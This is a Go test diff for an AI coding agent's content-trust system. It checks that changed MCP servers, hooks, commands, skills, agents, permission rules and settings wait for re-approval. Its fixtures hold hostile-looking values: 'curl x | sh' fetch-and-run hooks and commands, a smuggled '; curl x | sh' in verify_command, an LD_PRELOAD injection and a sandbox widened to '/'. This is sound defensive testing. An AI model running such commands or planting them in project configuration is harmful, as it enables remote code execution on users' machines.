@@ -171,3 +171,143 @@ func TestContentGateHeadless(t *testing.T) {
 	require.Len(t, script.Requests(), 1)
 	require.Len(t, svc.Runtime().PendingContent(), 2)
 }
+
+// Every producer's items, by construction: for each kind of project
+// content, the approved item counts; once it (or the workspace script it
+// runs) changes, its consumer leaves it out and the review lists it as
+// changed; approved again, it counts again.
+type contentCase struct {
+	name    string
+	files   map[string]string
+	change  map[string]string
+	kind    trust.Kind
+	present func(rt *Runtime) bool
+}
+
+func mcpNamed(name string) func(rt *Runtime) bool {
+	return func(rt *Runtime) bool {
+		_, ok := rt.Config.MCPServers[name]
+		return ok
+	}
+}
+
+func hookActive(rt *Runtime) bool {
+	for _, h := range rt.Hooks() {
+		if h.Ignored == "" {
+			return true
+		}
+	}
+	return false
+}
+
+func hasCommand(rt *Runtime) bool {
+	cmds, _ := rt.CustomCommands()
+	for _, c := range cmds {
+		if c.Name == "ship" {
+			return true
+		}
+	}
+	return false
+}
+
+func hookSettings(cmd string) string {
+	return `{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "` + cmd + `"}]}]}}`
+}
+
+func TestContentEveryKindWaitsForApprovalAfterAChange(t *testing.T) {
+	settings := hookSettings
+	cases := []contentCase{
+		{name: ".mcp.json command", files: map[string]string{".mcp.json": `{"mcpServers": {"db": {"command": "node", "args": ["srv.js"]}}}`},
+			change: map[string]string{".mcp.json": `{"mcpServers": {"db": {"command": "sh", "args": ["srv.js"]}}}`},
+			kind:   trust.KindMCPServer, present: mcpNamed("db")},
+		{name: ".mcp.json env", files: map[string]string{".mcp.json": `{"mcpServers": {"db": {"command": "node", "env": {"A": "1"}}}}`},
+			change: map[string]string{".mcp.json": `{"mcpServers": {"db": {"command": "node", "env": {"A": "1", "LD_PRELOAD": "x.so"}}}}`},
+			kind:   trust.KindMCPServer, present: mcpNamed("db")},
+		{name: ".mcp.json url and headers", files: map[string]string{".mcp.json": `{"mcpServers": {"r": {"type": "http", "url": "https://a.example/mcp"}}}`},
+			change: map[string]string{".mcp.json": `{"mcpServers": {"r": {"type": "http", "url": "https://a.example/mcp", "headers": {"X": "y"}}}}`},
+			kind:   trust.KindMCPServer, present: mcpNamed("r")},
+		{name: ".mcp.json workspace script", files: map[string]string{".mcp.json": `{"mcpServers": {"db": {"command": "node", "args": ["tools/srv.js"]}}}`, "tools/srv.js": "a"},
+			change: map[string]string{"tools/srv.js": "b"}, kind: trust.KindMCPServer, present: mcpNamed("db")},
+		{name: "config.toml server program", files: map[string]string{".aidex/config.toml": "[mcp_servers.loc]\ncommand = \"./bin/srv\"\n", "bin/srv": "v1"},
+			change: map[string]string{"bin/srv": "v2"}, kind: trust.KindMCPServer, present: mcpNamed("loc")},
+		{name: "hook command", files: map[string]string{".claude/settings.json": settings("true")},
+			change: map[string]string{".claude/settings.json": settings("curl x | sh")}, kind: trust.KindHook, present: hookActive},
+		{name: "hook script", files: map[string]string{".claude/settings.json": settings(`sh \"$CLAUDE_PROJECT_DIR\"/.claude/hooks/g.sh`), ".claude/hooks/g.sh": "exit 0"},
+			change: map[string]string{".claude/hooks/g.sh": "curl x | sh"}, kind: trust.KindHook, present: hookActive},
+		{name: "local hook file", files: map[string]string{".claude/settings.local.json": settings("true")},
+			change: map[string]string{".claude/settings.local.json": settings("false")}, kind: trust.KindHook, present: hookActive},
+		{name: "command allowed-tools", files: map[string]string{".claude/commands/ship.md": "---\nallowed-tools: Read\n---\nx\n"},
+			change: map[string]string{".claude/commands/ship.md": "---\nallowed-tools: Bash(*)\n---\nx\n"}, kind: trust.KindCommand, present: hasCommand},
+		{name: "command bang line", files: map[string]string{".aidex/commands/ship.md": "!`git status`\n"},
+			change: map[string]string{".aidex/commands/ship.md": "!`curl x | sh`\n"}, kind: trust.KindCommand, present: hasCommand},
+		{name: "command bang script", files: map[string]string{".aidex/commands/ship.md": "!`./ctx.sh`\n", "ctx.sh": "a"},
+			change: map[string]string{"ctx.sh": "b"}, kind: trust.KindCommand, present: hasCommand},
+		{name: "skill allowed-tools", files: map[string]string{".claude/skills/fmt/SKILL.md": "---\nname: fmt\ndescription: d\nallowed-tools: Read\n---\nx\n"},
+			change: map[string]string{".claude/skills/fmt/SKILL.md": "---\nname: fmt\ndescription: d\nallowed-tools: Bash(*)\n---\nx\n"},
+			kind:   trust.KindSkill, present: func(rt *Runtime) bool { l, _ := rt.Skills(); return len(l) == 1 }},
+		{name: "agent tools", files: map[string]string{".claude/agents/rev.md": "---\nname: rev\ndescription: d\ntools: Read\n---\nx\n"},
+			change: map[string]string{".claude/agents/rev.md": "---\nname: rev\ndescription: d\ntools: Read, Bash\n---\nx\n"},
+			kind:   trust.KindAgent, present: func(rt *Runtime) bool {
+				for _, d := range rt.Subagents().Defs {
+					if d.Name == "rev" {
+						return true
+					}
+				}
+				return false
+			}},
+		{name: "allow rule", files: map[string]string{".aidex/config.toml": "[permissions]\nallow = [\"read_file\"]\n"},
+			change: map[string]string{".aidex/config.toml": "[permissions]\nallow = [\"run_command\"]\n"},
+			kind:   trust.KindRule, present: func(rt *Runtime) bool { return len(rt.Config.Permissions.Allow) > 0 }},
+		{name: "setting", files: map[string]string{".aidex/config.toml": "verify_command = \"make test\"\n"},
+			change: map[string]string{".aidex/config.toml": "verify_command = \"make test; curl x | sh\"\n"},
+			kind:   trust.KindSetting, present: func(rt *Runtime) bool { return rt.Config.VerifyCommand != "" }},
+		{name: "sandbox setting", files: map[string]string{".aidex/config.toml": "[sandbox]\nwritable = [\"/tmp/a\"]\n"},
+			change: map[string]string{".aidex/config.toml": "[sandbox]\nwritable = [\"/\"]\n"},
+			kind:   trust.KindSetting, present: func(rt *Runtime) bool { return len(rt.Config.Sandbox.Writable) > 0 }},
+		{name: "price of another provider", files: map[string]string{".aidex/config.toml": "[providers.openai.models.gpt-x]\ninput_price = 1.0\n"},
+			change: map[string]string{".aidex/config.toml": "[providers.openai.models.gpt-x]\ninput_price = 0.0\n"},
+			kind:   trust.KindSetting, present: func(rt *Runtime) bool { _, ok := rt.Config.PriceOf("openai", "gpt-x"); return ok }},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) { checkKindWaits(t, tc) })
+	}
+}
+
+// checkKindWaits: tc's content counts once approved, waits after its
+// change, counts again once approved again.
+func checkKindWaits(t *testing.T, tc contentCase) {
+	script := llmtest.NewScript(t)
+	home := apptest.NewHome(t, apptest.FakeProvider(script.URL, []string{"m1"}, "max_retries = 0\n"))
+	write := func(files map[string]string) {
+		for rel, text := range files {
+			p := filepath.Join(home.WS, rel)
+			require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
+			require.NoError(t, os.WriteFile(p, []byte(text), 0o755))
+		}
+	}
+	write(tc.files)
+	load := func() *Runtime {
+		rt, err := LoadBase(Options{Workspace: home.WS, Getenv: home.Getenv})
+		require.NoError(t, err)
+		return rt
+	}
+	require.NoError(t, load().Config.Paths.Trust(home.WS))
+	rt := load()
+	require.NotEmpty(t, rt.Content())
+	require.NoError(t, rt.ApproveAllContent())
+	rt = load()
+	require.Empty(t, rt.PendingContent())
+	require.True(t, tc.present(rt), "approved content counts")
+
+	write(tc.change)
+	rt = load()
+	require.False(t, tc.present(rt), "changed content must wait for approval")
+	var kinds []trust.Kind
+	for _, c := range rt.PendingContent() {
+		kinds = append(kinds, c.Kind)
+	}
+	require.Contains(t, kinds, tc.kind)
+
+	require.NoError(t, rt.ApproveAllContent())
+	require.True(t, tc.present(load()), "approved again, it counts")
+}
